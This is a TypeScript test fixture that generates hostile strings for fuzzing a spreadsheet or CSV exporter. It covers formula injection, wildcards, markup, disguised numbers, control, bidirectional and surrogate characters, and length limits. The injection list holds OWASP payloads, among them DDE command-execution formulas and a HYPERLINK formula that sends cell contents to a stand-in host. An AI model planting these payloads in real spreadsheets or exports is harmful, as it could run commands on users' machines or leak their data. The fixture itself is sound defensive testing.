/**
 * Texts that programs have tripped over: formula injection (OWASP's list), criteria and wildcards, header codes, markup, numbers and
 * dates in disguise, Excel's own escapes, control and bidirectional characters, halves of surrogate pairs, and lengths at the limits.
 */

import fc from "fast-check";

/** OWASP's CSV injection list: each of these, left as it is, begins a formula or smuggles one past a separator. */
const INJECTIONS = [
  "=1+1", "=1+2\";=1+2", "=1+2'\" ;,=1+2", "=cmd|'/C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
  "=HYPERLINK(\"http://x.example?d=\"&A1,\"click\")", "=IMPORTXML(\"http://x.example\",\"//a\")", "=WEBSERVICE(\"http://x.example\")", "=DDE(\"a\";\"b\";\"c\")",
  "=10+20+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1", "＋1", "－1", "＠x", ";=1+1", ",=1+1",
  "\"=1+1\"", "'=1+1", "''=1+1", "=", "+", "-", "@", "==", "=-", "=+@", "{=1}", "=A1:A2", "=Sheet1!A1", "=qb_today", "=qbMembers[name]", "=RC[-1]", "=(((", "=\"", "=#REF!",
];
const CRITERIA = [
  "*", "?", "~", "~*", "~~", "a*", "*a", "a?c", "**", "<>", "<>a", "=a", ">5", "<5", ">=0", "<=", "\"\"", "=\"\"", "<>*", "~?", "?".repeat(40), "*".repeat(40), "a~", "~a", "[a]", "(a)|b", "a|b", "R01|M01", "\\d+",
];
const FIELD_CODES = [
  "&P", "&N", "&D", "&T", "&F", "&A", "&Z", "&G", "&\"Arial,Bold\"x", "&12x", "&Kff0000x", "&L", "&C", "&R", "&", "&&", "&&P", "A&B", "A && B", "&L&P&R", "&&&", "x&", "{page}", "{0}", "{word}", "%s%n", "${x}", "#{x}", "{{x}}", "$&", "$1", "$$",
];
const MARKUP = [
  "<b>x</b>", "<script>alert(1)</script>", "</t></si>", "]]>", "<![CDATA[x]]>", "<!--", "-->", "&amp;", "&lt;", "&#x41;", "&#65;", "&nbsp;", "&bogus;", "<?xml?>", "\"><x a='", "<!ENTITY x \"y\">",
];
const DISGUISED = [
  "0", "007", "1", "-1", "+1", "1e5", "1E+5", "1e400", ".5", "5.", "1,234", "1 234", "１２３", "½", "1/2", "1 1/2", "3-4", "3/4", "12:30", "12:30:45 PM", "50%", "$5", "￥5", "€5", "(5)", "5-", "0x1F", "1_000", "NaN", "Infinity", "-0",
  "2026-07-01", "2026/7/1", "7/1", "1-Jul", "Jul 2026", "1 July 2026", "July", "MAR", "SEPT2", "DEC1", "七月一日", "7月1日", "2026年7月1日", "today", "2026-07-01T12:00", "TRUE", "false", "True ", "#N/A", "#REF!", "#DIV/0!", "#NAME?", "#VALUE!", "null", "undefined", "A1", "R1C1", "XFD1048576",
];
const ESCAPES = ["_x0041_", "_x000D_", "_x005F_x0041_", "__x0041__", "_x0041", "_X0041_", "_x00zz_", "_xD83D_", "_x0000_", "a_x000a_b", "\\n", "\\u0041", "'#'", "['#]", "@[x]", "[[x]]", "[#All]", "[#This Row]", "a,b", "a:b", "constructor", "__proto__", "toString"];
const CONTROLS = [
  "a\u0001b", "\u0007", "a\u0008", "a\u000bb", "a\u000cb", "a\u001fb", "a\u007fb", "a\u0080b", "a\u0085b", "a\u009fb", "a\tb", "a\u2028b", "a\u2029b", "a\u00adb", "a\u200bb", "a\u200db", "a\ufeffb", "a\u0000b", "a\ufffeb", "a\uffffb", "a\rb", "a\nb", "a\r\nb", "\u3000a\u3000", "\u00a0a\u00a0",
];
const BIDIRECTIONAL = ["\u202eabc", "a\u202db", "\u2066a\u2069", "\u200fa", "\u061ca", "محمد", "שלום", "abc\u202e=1+1", "\u202e\u2066=1", "אב12גד"];
const SURROGATES = ["\ud83d", "\ude00", "a\ud83db", "a\ude00b", "\ude00\ud83d", "😀", "😀😀", "👩‍👩‍👧", "𠮷野家", "e\u0301", "ﬁ", "ǅ", "İ", "ı", "ß", "ẞ", "Ω", "Å", "가", "ﷺ", "🇨🇳", "\u{10ffff}", "\u{1fffe}"];
const LENGTHS = ["x".repeat(254), "x".repeat(255), "x".repeat(256), "长".repeat(255), "长".repeat(256), "😀".repeat(127), "😀".repeat(128), "&".repeat(255), "'".repeat(255), "=".repeat(255), "=".repeat(300), "a".repeat(8193), "b".repeat(32767), "c".repeat(32768), "x".repeat(253) + "😀", "x".repeat(254) + "😀"];
const BLANKS = ["", " ", "\u3000", "\t", "\n", "\u00a0", "\ufeff"];

/** By kind, for tests that want some of each. */
export const HAND_PICKED: Readonly<Record<string, readonly string[]>> = {
  injections: INJECTIONS, criteria: CRITERIA, fieldCodes: FIELD_CODES, markup: MARKUP, disguised: DISGUISED, escapes: ESCAPES,
  controls: CONTROLS, bidirectional: BIDIRECTIONAL, surrogates: SURROGATES, lengths: LENGTHS, blanks: BLANKS,
};

const picked = Object.values(HAND_PICKED).flat();
/** Long ones stay out of compounds: they are tried alone. */
const pieces = picked.filter((text) => text.length > 0 && text.length < 60);

const anyString = fc.oneof(
  { weight: 5, arbitrary: fc.array(fc.constantFrom(...pieces), { minLength: 2, maxLength: 4 }).map((parts) => parts.join("")) },
  { weight: 2, arbitrary: fc.tuple(fc.constantFrom("=", "+", "-", "@", "'", "&", "\t", "~", "*", "<", "#", "_x", "\ufeff"), fc.string({ unit: "binary", minLength: 1, maxLength: 12 })).map((parts) => parts.join("")) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", minLength: 1, maxLength: 20 }) },
  { weight: 1, arbitrary: fc.array(fc.integer({ min: 0, max: 0xffff }), { minLength: 1, maxLength: 8 }).map((units) => String.fromCharCode(...units)) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...pieces), fc.integer({ min: 230, max: 300 })).map(([text, length]) => text.repeat(Math.ceil(length / text.length)).slice(0, length)) },
);

/** So many different texts: the hand-picked first, then compounds and random ones. The same count gives the same texts. */
export function hostileStrings(count: number): string[] {
  const texts = new Set(picked);
  for (let seed = 1; texts.size < count; seed += 1) {
    for (const text of fc.sample(anyString, { numRuns: count, seed })) texts.add(text);
  }
  return [...texts].slice(0, count);
}
